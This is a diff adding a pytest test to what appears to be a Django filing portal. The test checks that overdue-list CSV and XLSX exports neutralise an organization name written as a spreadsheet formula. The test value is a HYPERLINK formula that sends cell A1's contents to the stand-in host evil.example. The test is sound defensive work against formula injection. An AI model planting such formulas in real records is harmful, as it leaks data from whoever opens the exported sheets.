@@ -5,6 +5,7 @@ Each path is walked through the verbs and the pages, with the access rules of ev
 
 import copy
 import io
+import zipfile
 from datetime import date
 
 import pytest
@@ -527,6 +528,24 @@ def test_the_overdue_list_shows_the_reviewers_jurisdiction_only_and_exports(
     # Before the deadline nobody is listed.
     html = page(client, reverse("admin:filings_overdueduty_changelist"))
     assert shenzhen.organization.name not in html
+
+
+def test_the_overdue_exports_write_a_name_like_a_formula_as_text(
+    client, city_reviewer, late_organizations
+):
+    """Every spreadsheet the portal writes goes through filings.spreadsheets (issue 30)."""
+    shenzhen = late_organizations[0].organization
+    shenzhen.name = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
+    shenzhen.save(update_fields=["name"])
+    with time_machine.travel(date(2026, 4, 20), tick=False):
+        sign_in(client, city_reviewer)
+        body = client.get(reverse("admin:filings_overdueduty_export_csv")).content.decode()
+        assert "'=HYPERLINK" in body
+        content = client.get(reverse("admin:filings_overdueduty_export_xlsx")).content
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    assert "HYPERLINK" in sheet
 
 
 def test_an_order_to_correct_is_recorded_emailed_and_shown_to_the_organization(
